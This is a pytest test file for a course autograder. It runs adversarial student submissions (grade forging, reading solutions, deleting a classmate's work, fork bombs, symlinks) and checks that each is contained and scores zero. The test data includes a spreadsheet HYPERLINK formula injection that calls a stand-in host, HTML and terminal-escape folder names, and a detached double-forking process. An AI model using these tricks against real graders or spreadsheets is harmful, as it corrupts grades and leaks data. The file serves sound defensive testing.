"""course-grade on a class (slow tier): the committed submissions (tests/submissions/, a copy), plus
submissions that are symbolic links or huge files, graded by the command as an instructor runs it.

Every attack of issues 25 and 30 (``attack-*``) grades 0 on its tasks (a copy of the course's code, or
a disguised call of the course's function, is graded on what it computes, and flagged); folders and
files with odd names (a formula, a newline and HTML, Latin-1 bytes and a terminal escape) are graded
like any other, and grades.csv and the reports are checked for formulas, raw HTML and control characters;
every other row is what it would be without the attacks, and
nothing outside each submission's private folder changes: not the course, not the other submissions,
not the grades. The attacks on files need the sandbox (bubblewrap, or a separate user for writes):
without it they are left out of the class and their tests skip, except in CI, where they fail."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import site
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from course_utils.grading import sandbox as grade_sandbox

ROOT = Path(__file__).resolve().parents[1]
SUBMISSIONS = ROOT / "tests" / "submissions"
sys.path.insert(0, str(SUBMISSIONS))
import make_submissions  # noqa: E402

pytestmark = pytest.mark.slow

STUDENTS = {  # submission: (exercise, correct, the start of each task's value)
    "alice/05_causal_mask.ipynb": ("05_causal_mask", 3, ["correct", "correct", "correct"]),
    "bob/Causal Mask - Bob (1).ipynb": ("05_causal_mask", 1, ["correct", "wrong: no scaling", "not done"]),
    "carol/05_causal_mask.ipynb": ("05_causal_mask", 0, ["not done", "not done", "not done"]),
    "dave/assignment.ipynb": ("05_causal_mask", 2, ["correct", "timed out", "correct"]),
    "erin/Erin_05.ipynb": ("05_causal_mask", 2, ["correct", "crashed: SyntaxError", "correct"]),
    "frank/my notebook.ipynb": ("05_causal_mask", 3, ["correct", "correct", "correct"]),
    "grace/memory.ipynb": ("05_causal_mask", 2, ["correct", "crashed: RuntimeError", "correct"]),
    "hank/05_causal_mask.ipynb": ("05_causal_mask", 3, ["correct", "correct", "correct"]),
    "heidi/files/writes files.ipynb": ("05_causal_mask", 3, ["correct", "correct", "correct"]),
    "ivan/05_causal_mask.ipynb": ("", 0, ["invalid: invalid JSON"] * 3),
    "judy/lab3.ipynb": ("", 0, ["invalid: not an exercise of this course"] * 3),
    "mallory/05_causal_mask.ipynb": ("05_causal_mask", 0, ["not done", "not done", "not done"]),
    "oscar/05 causal mask (oscar).ipynb": ("05_causal_mask", 0, ["wrong: upper triangle", "not done", "not done"]),
    "peggy/05_causal_mask.ipynb": ("05_causal_mask", 0, ["wrong: all True", "not done", "not done"]),
    "trent/05_causal_mask.ipynb": ("05_causal_mask", 2, ["wrong: calls the course's own causal_mask", "correct", "correct"]),
    "victor/notebook.ipynb": ("08_attention_vs_no_attention", 2, ["correct", "correct", "wrong: "]),
}
WRONG = ["wrong: upper triangle", "wrong: no scaling", "wrong: "]  # the three wrong answers of every attack
ATTACKS = {  # attack: the start of each task's value
    "attack-forge-hooks": WRONG, "attack-forge-display": WRONG, "attack-forge-meta-path": WRONG,
    "attack-forge-thread": WRONG, "attack-forge-builtins": ["crashed: malformed reply"] + WRONG[1:],
    "attack-patch-torch": WRONG, "attack-patch-seed": WRONG, "attack-stack-walk": WRONG, "attack-reads-fixture": WRONG,
    "attack-patch-isinstance": ["crashed: "] + WRONG[1:],
    "attack-twin-setprofile": ["wrong: calls the course's own causal_mask"] + WRONG[1:],
    "attack-copy-package": [WRONG[0], "correct", WRONG[2]],
    "attack-read-solutions": WRONG, "attack-rewrite-checkers": WRONG, "attack-delete-classmate": WRONG,
    "attack-detached": WRONG,
    "attack-exits": ["crashed: the notebook ended its own process (exit status 3)"] + WRONG[1:],
    "attack-ignores-sigint": ["timed out"] + WRONG[1:], "attack-loops": ["timed out"] + WRONG[1:],
    "attack-floods": ["timed out"] + WRONG[1:], "attack-fork-bomb": ["timed out"] + WRONG[1:],
    "attack-malformed": ["crashed: malformed reply"] + WRONG[1:],
    "attack-link-solution": ["invalid: a symbolic link"] * 3, "attack-link-classmate": ["invalid: a symbolic link"] * 3,
    "attack-link-huge": ["invalid: a symbolic link"] * 3, "attack-huge-file": ["invalid: larger than"] * 3,
    # issue 30
    "attack-disguised-twin": ["correct"] + WRONG[1:], "attack-odd-message": [WRONG[0], "crashed: ValueError", WRONG[2]],
    "attack-long-sum": WRONG, "attack-grader-object": WRONG, "attack-fills-folder": WRONG,
}
ODD_NAMES = {  # folders made by the test (issue 30): each holds alice's notebook and grades 3 of 3
    b"=HYPERLINK(\"x.example?\"&A1,\"click\")": "'=HYPERLINK(",  # (a name holds no slash)
    b"forged\n# Heading <img src=x.example>": "forged # Heading <img src=x.example>",
    b"caf\xe9 \x1b[31m(Latin-1)": "caf\\xe9  [31m(Latin-1)",
}
NEEDS = {  # attacks that are safe to run, and can hold, only with this isolation
    "attack-read-solutions": ("bubblewrap",),
    "attack-rewrite-checkers": ("bubblewrap", "separate user"),
    "attack-delete-classmate": ("bubblewrap", "separate user"),
    "attack-detached": ("bubblewrap", "separate user"),  # it writes to every grades*.csv it can find
    "attack-fork-bomb": ("bubblewrap", "separate user", "non-root"),  # a process limit
    "attack-fills-folder": ("bubblewrap",),  # elsewhere its folder is checked after the task: "crashed: ... wrote"
}
COLUMNS = ["causal_mask", "masked_attention", "leaks_future"]
TIMEOUTS = ["--timeout", "120", "--task-timeout", "20"]


def _digest(folder: Path, pattern: str = "*") -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob(pattern)) if p.is_file() and not p.is_symlink() and "__pycache__" not in p.parts}


def _detached() -> list[int]:
    found = []
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and (p / "comm").read_text().strip() == "cg-detached":
                found.append(int(p.name))
        except OSError:
            pass
    return found


ARGUMENT = {"bubblewrap": [], "separate user": ["--isolation", "user", "--i-understand"],
            "none": ["--isolation", "none", "--i-understand"]}


@pytest.fixture(scope="module")
def isolation(tmp_path_factory):
    """bubblewrap where it works; else (named, as an instructor must) a separate user as root, none otherwise."""
    run = tmp_path_factory.mktemp("probe")
    run.chmod(0o711)
    package = grade_sandbox.copy_package(run)
    try:
        return grade_sandbox.detect(2, run, package)
    except grade_sandbox.Refused:
        if os.environ.get("CI"):
            raise
        try:
            return grade_sandbox.detect(2, run, package, "user" if os.geteuid() == 0 else "none", accept_less=True)
        except grade_sandbox.Refused as why:
            pytest.skip(f"no isolation to grade a class with here: {why}")


def _runs_here(attack: str, iso) -> bool:
    kinds = {iso.kind} | ({"non-root"} if os.geteuid() != 0 else set())
    return attack not in NEEDS or bool(kinds & set(NEEDS[attack]))


def _skip_unless_isolated(attack: str, iso) -> None:
    if not _runs_here(attack, iso):
        message = f"{attack} needs isolation {' or '.join(NEEDS[attack])}; here: {iso.label()}"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


def _run(folder: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "course_utils.grading.cli", str(folder), "--out", str(out),
                           "--jobs", "2", *TIMEOUTS, *extra], cwd=out.parent, env=env, capture_output=True,
                          text=True, timeout=1800)


@pytest.fixture(scope="module")
def graded(tmp_path_factory, isolation):
    """The class graded once: rows by submission, and what changed around it."""
    top = tmp_path_factory.mktemp("grading")
    folder, out = top / "class", top / "out" / "grades.csv"
    out.parent.mkdir()
    shutil.copytree(SUBMISSIONS, folder, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    for attack in NEEDS:
        if not _runs_here(attack, isolation):
            shutil.rmtree(folder / attack)
    for name, target in (("attack-link-solution", ROOT / "notebooks" / "solutions" / "05_causal_mask.ipynb"),
                         ("attack-link-classmate", folder / "alice" / "05_causal_mask.ipynb"),
                         ("attack-link-huge", top / "huge.bin")):
        (folder / name).mkdir()
        (folder / name / "05_causal_mask.ipynb").symlink_to(target)
    with (top / "huge.bin").open("wb") as f:
        f.truncate(2**30)  # 1 GiB, sparse
    for name in ODD_NAMES:
        odd = os.path.join(os.fsencode(folder), name)
        os.mkdir(odd)
        shutil.copy(folder / "alice" / "05_causal_mask.ipynb", os.path.join(odd, b"05 \xe9\xff.ipynb"))
    (folder / "attack-huge-file").mkdir()
    with (folder / "attack-huge-file" / "05_causal_mask.ipynb").open("wb") as f:
        f.truncate(40 * 2**20)
    course = {"course_utils": _digest(ROOT / "course_utils", "*.py"), "solutions": _digest(ROOT / "notebooks")}
    snapshot = {p: p.read_bytes() for p in (ROOT / "course_utils").rglob("*.py")}
    before = _digest(folder)
    result = _run(folder, out, *ARGUMENT[isolation.kind])
    after_run = out.read_text(encoding="utf-8") if out.exists() else ""
    left = _detached()
    time.sleep(5)  # a detached process that survived would rewrite the grades now
    changed = {p for p, data in snapshot.items() if not p.exists() or p.read_bytes() != data}
    for path in changed:  # never leave the course damaged for the other tests, even when this one fails
        path.write_bytes(snapshot[path])
    customised = [Path(d) / n for d in site.getsitepackages() for n in ("sitecustomize.py", "zz_course_grade.pth")
                  if (Path(d) / n).exists()]
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return {"rows": {r["submission"]: r for r in rows}, "order": [r["submission"] for r in rows], "out": out,
            "stderr": result.stderr, "returncode": result.returncode, "folder": folder, "top": top,
            "class_before": before, "class_after": _digest(folder), "course_changed": changed,
            "course_after": {"course_utils": _digest(ROOT / "course_utils", "*.py"), "solutions": _digest(ROOT / "notebooks")},
            "course_before": course, "detached_left": left, "csv_right_after": after_run,
            "csv_later": out.read_text(encoding="utf-8"), "customised": customised}


def test_the_run_finishes_and_says_its_isolation(graded, isolation):
    assert graded["returncode"] == 0, graded["stderr"][-3000:]
    assert f"isolation: {isolation.label()}" in graded["stderr"]
    report = graded["out"].with_name("grades_report.md").read_text(encoding="utf-8")
    assert f"isolation: {isolation.label()}" in report


@pytest.mark.parametrize("submission", sorted(STUDENTS))
def test_every_other_row_is_untouched(graded, submission):
    exercise, correct, starts = STUDENTS[submission]
    row = graded["rows"][submission]
    assert row["exercise"] == exercise and int(row["correct"]) == correct, row
    columns = ["token_accuracy", "exact_match", "accuracy_by_length"] if exercise.startswith("08") else COLUMNS
    for column, start in zip(columns, starts):
        assert row[column].startswith(start), (column, row[column])
    flags = ("causal_mask: the static check cannot follow it (dynamic code (exec)): look at it"  # defined by exec
             if submission.startswith("hank/") else "")
    assert int(row["tasks"]) == (3 if exercise else 0) and row["flags"] == flags


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_each_attack_grades_zero_on_its_own_row(graded, isolation, attack):
    _skip_unless_isolated(attack, isolation)
    row = graded["rows"][f"{attack}/05_causal_mask.ipynb"]
    for column, start in zip(COLUMNS, ATTACKS[attack]):
        assert row[column].startswith(start), (column, row[column])
    if attack == "attack-copy-package":  # right, as computed; a copy of the course's code, flagged
        assert row["correct"] == "1" and row["flags"] == (
            "masked_attention: copy of course_utils.core.attention.scaled_dot_product_attention")
    elif attack == "attack-disguised-twin":  # right, as computed; what the static check cannot follow, flagged
        assert row["correct"] == "1" and row["flags"] == (
            "causal_mask: the static check cannot follow it (dynamic code (getattr)): look at it")
    else:
        assert row["correct"] == "0"


def test_the_table_and_report_hold_no_forged_text(graded):
    header = graded["csv_right_after"].splitlines()[0]
    assert header == ("submission,exercise,correct,tasks,causal_mask,masked_attention,leaks_future,"
                      "token_accuracy,exact_match,accuracy_by_length,flags")
    assert graded["order"] == sorted(graded["order"])
    report = graded["out"].with_name("grades_report.md").read_text(encoding="utf-8")
    for text in (graded["csv_right_after"], report):
        assert "COURSE-GRADE" not in text and "[correct]" not in text and str(graded["top"]) not in text
    assert "## Answers to look at" in report and "attack-copy-package" in report


def test_odd_names_are_graded_and_everything_written_is_safe_to_open(graded):
    """Names with any byte become their own rows; grades.csv and the reports hold no formula, no raw HTML
    and no control character (the check of tests/test_grade.py)."""
    from test_grade import assert_safe_outputs

    for start in ODD_NAMES.values():
        rows = [r for name, r in graded["rows"].items() if name.startswith(start)]
        assert len(rows) == 1 and rows[0]["correct"] == "3", (start, rows)
    assert_safe_outputs(graded["out"], [graded["out"].with_name(f"grades_report.{ext}") for ext in ("md", "html")])


def test_nothing_outside_the_private_folders_changed(graded, isolation):
    assert not graded["course_changed"], f"the grading changed the course: {sorted(graded['course_changed'])}"
    assert graded["course_after"] == graded["course_before"]
    assert graded["class_after"] == graded["class_before"], "a submission in the class folder changed"
    assert not graded["customised"], graded["customised"]
    top = graded["top"]
    assert sorted(p.name for p in top.iterdir()) == ["class", "huge.bin", "out"]
    assert sorted(p.name for p in graded["out"].parent.iterdir()) == [
        "grades.csv", "grades_report.html", "grades_report.md"]
    assert not (ROOT / "notes.txt").exists() and not (ROOT / "course_utils" / "helpers" / "checkers" / "x").exists()


def test_no_process_outlives_its_submission(graded):
    assert graded["detached_left"] == [], "a detached process of a submission still runs after the grading"
    assert graded["csv_later"] == graded["csv_right_after"]


def test_without_a_sandbox_a_submission_still_costs_only_its_own_row(tmp_path):
    """``--isolation none``: no security boundary, but limits, a clean end and verdicts out of reach hold."""
    folder = tmp_path / "class"
    for name in ("alice", "attack-exits", "attack-malformed", "attack-loops", "attack-forge-hooks", "attack-patch-torch"):
        shutil.copytree(SUBMISSIONS / name, folder / name)
    sleeper = ("import os, time\nif os.fork() == 0:\n    try:\n        os.setsid()\n        if os.fork() == 0:\n"
               "            open('/proc/self/comm', 'w').write('cg-detached')\n            time.sleep(600)\n"
               "    finally:\n        os._exit(0)")
    make_submissions.write(folder, "attack-detached-sleeper/05_causal_mask.ipynb",
                           make_submissions.notebook(make_submissions.attack(sleeper), "05_causal_mask"))
    out = tmp_path / "out" / "grades.csv"
    out.parent.mkdir()
    if os.geteuid() == 0:  # student code never runs as root: the grader refuses
        result = _run(folder, out, "--isolation", "none", "--i-understand")
        assert result.returncode == 2 and "would run student code as root" in result.stderr, result.stderr[-3000:]
        pytest.skip("--isolation none is refused as root")
    result = _run(folder, out, "--isolation", "none")
    assert result.returncode == 2 and "--i-understand" in result.stderr, result.stderr[-3000:]
    result = _run(folder, out, "--isolation", "none", "--i-understand")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "isolation: none" in result.stderr and "WARNING: student code runs WITHOUT the sandbox" in result.stderr
    with out.open(newline="", encoding="utf-8") as f:
        rows = {r["submission"].split("/")[0]: r for r in csv.DictReader(f)}
    assert [rows["alice"][c] for c in COLUMNS] == ["correct"] * 3
    for name in ("attack-exits", "attack-malformed", "attack-loops", "attack-forge-hooks", "attack-patch-torch",
                 "attack-detached-sleeper"):
        expected = ATTACKS.get(name, WRONG)
        assert rows[name]["correct"] == "0" and all(rows[name][c].startswith(s) for c, s in zip(COLUMNS, expected)), rows[name]
    assert _detached() == []
    assert nbformat.read(folder / "alice" / "05_causal_mask.ipynb", as_version=4).cells  # untouched
